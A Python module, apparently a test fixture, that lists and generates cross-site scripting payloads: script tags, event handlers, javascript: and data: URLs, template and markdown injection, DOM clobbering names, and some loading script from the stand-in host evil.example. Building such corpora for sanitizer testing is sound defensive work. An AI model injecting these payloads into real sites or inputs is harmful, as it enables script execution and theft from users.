"""What people type to make a page run something: a hundred by hand, and more made of parts."""

import random

_RUN = "window.ran=1"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</ScRiPt>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<a href=javascript:{_RUN}>press</a>",
    f"<a href='java\tscript:{_RUN}'>press</a>",
    f"<form action=javascript:{_RUN}><input type=submit></form>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<base href=javascript:{_RUN}//>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    f"<link rel=stylesheet href=javascript:{_RUN}>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--><script>{_RUN}</script>-->",
    f"<xmp><p title='</xmp><svg/onload={_RUN}>'>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f"]]><img src=x onerror={_RUN}>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"＜script＞{_RUN}＜/script＞",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src='1' onerror='{_RUN}' <",
    "<dialog open><h1>You are hacked</h1></dialog>",
    "<input autofocus name=__proto__ value=1>",
    "<form id=form><input name=parentNode></form>",
    "<a id=commands name=commands>clobber</a>",
    "<portal src=//evil.example>",
)
_TAGS = ("img src=x", "svg", "body", "video src=x", "details open ontoggle", "input autofocus")
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart")
_HANDLERS = tuple(f"<{tag} {event}={_RUN}>" for tag in _TAGS for event in _EVENTS)
_CODE = (
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "#{window.ran=1}",
    "<%= window.ran=1 %>",
    "');window.ran=1;//",
    '");window.ran=1;//',
    "`;window.ran=1;//",
    "__proto__",
    "constructor",
    "toString",
)
_MARKDOWN = (
    "[press](javascript:window.ran=1)",
    "[press](JaVaScRiPt:window.ran=1)",
    "[press](data:text/html,<script>window.ran=1</script>)",
    "[press](vbscript:window.ran=1)",
    "![x](x'onerror='window.ran=1)",
    "<javascript:window.ran=1>",
    "[a](https://a.example'onmouseover='window.ran=1)",
    "**<img src=x onerror=window.ran=1>**",
    "`<img src=x onerror=window.ran=1>`",
    "> <img src=x onerror=window.ran=1>",
    "# <img src=x onerror=window.ran=1>",
    "- <img src=x onerror=window.ran=1>",
    "```\n<img src=x onerror=window.ran=1>\n```",
)
_ODD = (
    "\u202ereversed\u202c <b>x</b>",
    "\u2066\u2067\u2068 isolates",
    "é́́́́́́́́́́́ zalgo",
    "🎫" * 200,
    "w" * 3000,
    "<b>" * 400,
)

PAYLOADS = (*_MARKUP, *_HANDLERS, *_CODE, *_MARKDOWN, *_ODD)

_OPENS = ("", '"', "'", "`", "-->", "]]>", "</textarea>", "</title>", "</script>", "${", "{{", "](")
_ELEMENTS = (
    "img",
    "svg",
    "a",
    "body",
    "input",
    "video",
    "audio",
    "iframe",
    "math",
    "details",
    "form",
)
_SPACES = (" ", "/", "\t", "\n", "\x0c", "/**/")
_ADDRESSES = (
    "x",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "//evil.example",
)
_FRAMES = (
    "{}",
    "**{}**",
    "[{}](javascript:window.ran=1)",
    "> {}",
    "# {}",
    "`{}`",
    "- {}",
    "<{}>",
    "![x]({})",
)


def payloads(count: int) -> list[str]:
    """So many different ones, the same each time."""
    made = dict.fromkeys(PAYLOADS)
    draw = random.Random(7)
    while len(made) < count:
        element, space = draw.choice(_ELEMENTS), draw.choice(_SPACES)
        said = "".join(draw.choice((letter, letter.upper())) for letter in element)
        attribute = draw.choice(("src", "href", "xlink:href", "srcdoc", "action", "style"))
        event = draw.choice((*_EVENTS, "ontoggle", "onpointerenter", "onbegin", "onpageshow"))
        tag = f"<{said}{space}{attribute}={draw.choice(_ADDRESSES)}{space}{event}={_RUN}>"
        made[draw.choice(_FRAMES).format(draw.choice(_OPENS) + tag)] = None
    return list(made)[:count]
